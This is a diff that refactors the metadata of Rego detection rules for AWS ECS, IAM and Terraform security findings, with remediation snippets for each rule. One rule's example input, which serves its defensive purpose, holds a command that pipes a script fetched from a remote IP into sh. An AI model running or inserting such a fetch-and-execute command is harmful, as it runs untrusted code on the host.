@@ -8,8 +8,6 @@
 # - ref: https://docs.aws.amazon.com/AmazonECS/latest/developerguide/security-tasks-containers.html
 #   description: Amazon ECS task and container security best practices
 # custom:
-#   stride: tampering
-#   threat: task-definition-tampering
 #   origin: ecs-model
 #   actors: [internal-attacker, privileged-attacker]
 #   flow: "ECS Control Plane -> Task Definition (load)"
@@ -36,15 +34,10 @@ import data.stride.result
 #     ecs.task_definition:
 #       runtime_platform.operating_system_family: WINDOWS_SERVER_2022_CORE
 #   remediation:
-#     terraform: |
-#       Make the root file system read-only; mount a volume or a tmpfs where the program has to write:
-#           readonlyRootFilesystem = true
-#     cloudformation: |
-#       Make the root file system read-only; mount a volume or a tmpfs where the program has to write:
-#           ReadonlyRootFilesystem: true
-#     task_definition: |
-#       Make the root file system read-only; mount a volume or a tmpfs where the program has to write:
-#           "readonlyRootFilesystem": true
+#     fix: Make the root file system read-only; mount a volume or a tmpfs where the program has to write
+#     terraform: readonlyRootFilesystem = true
+#     cloudformation: 'ReadonlyRootFilesystem: true'
+#     task_definition: '"readonlyRootFilesystem": true'
 #   peers: [CKV_AWS_336, ECS.5]
 #   mitre: [T1105, T1554]
 #   cwe: [CWE-732]
@@ -69,16 +62,10 @@ writable_root_filesystem contains finding if {
 #     ecs.service:
 #       enable_execute_command: true
 #   remediation:
-#     terraform: |
-#       Leave it off; turn it on for the time of an investigation only:
-#           enable_execute_command = false
-#     cloudformation: |
-#       Leave it off; turn it on for the time of an investigation only:
-#           EnableExecuteCommand: false
-#     task_definition: |
-#       Leave it off; turn it on for the time of an investigation only:
-#           "enableExecuteCommand": false
-#   peers: []
+#     fix: Leave it off; turn it on for the time of an investigation only
+#     terraform: enable_execute_command = false
+#     cloudformation: 'EnableExecuteCommand: false'
+#     task_definition: '"enableExecuteCommand": false'
 #   mitre: [T1651, T1609]
 #   cwe: [CWE-489]
 execute_command_enabled contains finding if {
@@ -100,16 +87,10 @@ execute_command_enabled contains finding if {
 #       "containers[].command[]": curl -s http://203.0.113.30/install.sh | sh
 #       "containers[].entry_point[]": curl -s http://203.0.113.30/install.sh | sh
 #   remediation:
-#     terraform: |
-#       Put the program into the image when it is built, and start it from there:
-#           command = ["/app/server"]
-#     cloudformation: |
-#       Put the program into the image when it is built, and start it from there:
-#           Command: [/app/server]
-#     task_definition: |
-#       Put the program into the image when it is built, and start it from there:
-#           "command": ["/app/server"]
-#   peers: []
+#     fix: Put the program into the image when it is built, and start it from there
+#     terraform: command = ["/app/server"]
+#     cloudformation: 'Command: [/app/server]'
+#     task_definition: '"command": ["/app/server"]'
 #   mitre: [T1059.004, T1105]
 #   cwe: [CWE-494, CWE-829]
 remote_script_execution contains finding if {
@@ -173,16 +154,10 @@ saved_names(text) := names if {
 #     ecs.service:
 #       task_definition: app
 #   remediation:
-#     terraform: |
-#       Name the revision:
-#           task_definition = aws_ecs_task_definition.app.arn
-#     cloudformation: |
-#       Name the revision:
-#           TaskDefinition: !Ref TaskDefinition
-#     task_definition: |
-#       Name the revision:
-#           "taskDefinition": "app:42"
-#   peers: []
+#     fix: Name the revision
+#     terraform: task_definition = aws_ecs_task_definition.app.arn
+#     cloudformation: 'TaskDefinition: !Ref TaskDefinition'
+#     task_definition: '"taskDefinition": "app:42"'
 #   mitre: [T1525, T1610]
 #   cwe: [CWE-494]
 unpinned_task_revision contains finding if {
@@ -221,12 +196,11 @@ unpinned(service, name) if {
 #     ecs.task_definition:
 #       "lifecycle.ignore_changes[]": container_definitions
 #   remediation:
+#     fix: Take the attribute off the list
 #     terraform: |
-#       Take the attribute off the list:
-#           lifecycle {
-#             ignore_changes = [desired_count]
-#           }
-#   peers: []
+#       lifecycle {
+#         ignore_changes = [desired_count]
+#       }
 #   mitre: [T1525, T1578]
 #   cwe: [CWE-1038]
 ignored_task_drift contains finding if {
@@ -263,7 +237,7 @@ ignored_task_drift contains finding if {
 #       "policies[].statements[].actions[]": "ecs:registertaskdefinition"
 #       "policies[].statements[].everything": true
 #       "policies[].statements[].restricted": false
-#     iam.user:
+#     iam.user: &same
 #       "policies[].kind": inline
 #       "policies[].source": null
 #       "policies[].statements[].effect": allow
@@ -271,14 +245,7 @@ ignored_task_drift contains finding if {
 #       "policies[].statements[].actions[]": "ecs:registertaskdefinition"
 #       "policies[].statements[].everything": true
 #       "policies[].statements[].restricted": false
-#     iam.group:
-#       "policies[].kind": inline
-#       "policies[].source": null
-#       "policies[].statements[].effect": allow
-#       "policies[].statements[].grants[]": "ecs:registertaskdefinition"
-#       "policies[].statements[].actions[]": "ecs:registertaskdefinition"
-#       "policies[].statements[].everything": true
-#       "policies[].statements[].restricted": false
+#     iam.group: *same
 #     iam.policy:
 #       "statements[].effect": allow
 #       "statements[].grants[]": "ecs:registertaskdefinition"
@@ -286,21 +253,17 @@ ignored_task_drift contains finding if {
 #       "statements[].everything": true
 #       "statements[].restricted": false
 #   remediation:
+#     fix: Leave deployments to a pipeline, and name the service and the cluster that it deploys to
 #     terraform: |
-#       Leave deployments to a pipeline, and name the service and the cluster that it deploys to:
-#           statement {
-#             actions   = ["ecs:UpdateService"]
-#             resources = ["arn:aws:ecs:eu-west-1:123456789012:service/production/web"]
-#           }
+#       statement {
+#         actions   = ["ecs:UpdateService"]
+#         resources = ["arn:aws:ecs:eu-west-1:123456789012:service/production/web"]
+#       }
 #     cloudformation: |
-#       Leave deployments to a pipeline, and name the service and the cluster that it deploys to:
-#           - Effect: Allow
-#             Action: ["ecs:UpdateService"]
-#             Resource: arn:aws:ecs:eu-west-1:123456789012:service/production/web
-#   peers: []
-#   yields_to:
-#   - excessive-iam-permissions.wildcard-action
-#   - excessive-iam-permissions.administrator-policy-attached
+#       - Effect: Allow
+#         Action: ["ecs:UpdateService"]
+#         Resource: arn:aws:ecs:eu-west-1:123456789012:service/production/web
+#   yields_to: [excessive-iam-permissions.wildcard-action, excessive-iam-permissions.administrator-policy-attached]
 #   mitre: [T1525, T1610]
 #   cwe: [CWE-732, CWE-269]
 unrestricted_task_registration contains finding if {
@@ -345,18 +308,15 @@ only_scales(principal) if {
 #       versioning.status: Suspended
 #       object_lock_enabled: false
 #   remediation:
+#     fix: Keep the versions of the object
 #     terraform: |
-#       Keep the versions of the object:
-#           resource "aws_s3_bucket_versioning" "settings" {
-#             bucket = aws_s3_bucket.settings.id
-#             versioning_configuration {
-#               status = "Enabled"
-#             }
-#           }
-#     cloudformation: |
-#       Keep the versions of the object:
-#           VersioningConfiguration: {Status: Enabled}
-#   peers: []
+#       resource "aws_s3_bucket_versioning" "settings" {
+#         bucket = aws_s3_bucket.settings.id
+#         versioning_configuration {
+#           status = "Enabled"
+#         }
+#       }
+#     cloudformation: 'VersioningConfiguration: {Status: Enabled}'
 #   mitre: [T1565.001, T1525]
 #   cwe: [CWE-494, CWE-353]
 mutable_environment_file contains finding if {
@@ -409,9 +369,8 @@ unversioned(bucket) if {
 #       ref: main
 #       version: ">= 1.0"
 #   remediation:
-#     terraform: |
-#       Name a tag or a commit, or bound the version:
-#           source = "git::https://example.com/network.git?ref=v1.4.2"
+#     fix: Name a tag or a commit, or bound the version
+#     terraform: source = "git::https://example.com/network.git?ref=v1.4.2"
 #   peers: [CKV_TF_2]
 #   mitre: [T1195.001]
 #   cwe: [CWE-829, CWE-494]
@@ -452,7 +411,7 @@ any_version(module) if regex.match(`^\s*(>=?|!=)\s*v?[0-9][^,]*(,\s*(>=?|!=)\s*v
 #   severity: high
 #   message: a policy statement of {resource} opens a shell in every container, so its principals change what runs there with the role of the task
 #   reads:
-#     iam.role:
+#     iam.role: &same
 #       "policies[].kind": inline
 #       "policies[].source": null
 #       "policies[].statements[].effect": allow
@@ -460,22 +419,8 @@ any_version(module) if regex.match(`^\s*(>=?|!=)\s*v?[0-9][^,]*(,\s*(>=?|!=)\s*v
 #       "policies[].statements[].actions[]": "ecs:executecommand"
 #       "policies[].statements[].everything": true
 #       "policies[].statements[].restricted": false
-#     iam.user:
-#       "policies[].kind": inline
-#       "policies[].source": null
-#       "policies[].statements[].effect": allow
-#       "policies[].statements[].grants[]": "ecs:executecommand"
-#       "policies[].statements[].actions[]": "ecs:executecommand"
-#       "policies[].statements[].everything": true
-#       "policies[].statements[].restricted": false
-#     iam.group:
-#       "policies[].kind": inline
-#       "policies[].source": null
-#       "policies[].statements[].effect": allow
-#       "policies[].statements[].grants[]": "ecs:executecommand"
-#       "policies[].statements[].actions[]": "ecs:executecommand"
-#       "policies[].statements[].everything": true
-#       "policies[].statements[].restricted": false
+#     iam.user: *same
+#     iam.group: *same
 #     iam.policy:
 #       "statements[].effect": allow
 #       "statements[].grants[]": "ecs:executecommand"
@@ -483,17 +428,14 @@ any_version(module) if regex.match(`^\s*(>=?|!=)\s*v?[0-9][^,]*(,\s*(>=?|!=)\s*v
 #       "statements[].everything": true
 #       "statements[].restricted": false
 #   remediation:
+#     fix: Name the cluster, or the containers by a tag
 #     terraform: |
-#       Name the cluster, or the containers by a tag:
-#           condition {
-#             test     = "StringEquals"
-#             variable = "aws:ResourceTag/debug"
-#             values   = ["allowed"]
-#           }
-#     cloudformation: |
-#       Name the cluster, or the containers by a tag:
-#           Condition: {StringEquals: {"aws:ResourceTag/debug": allowed}}
-#   peers: []
+#       condition {
+#         test     = "StringEquals"
+#         variable = "aws:ResourceTag/debug"
+#         values   = ["allowed"]
+#       }
+#     cloudformation: 'Condition: {StringEquals: {"aws:ResourceTag/debug": allowed}}'
 #   yields_to:
 #   - excessive-iam-permissions.wildcard-action
 #   - excessive-iam-permissions.administrator-policy-attached
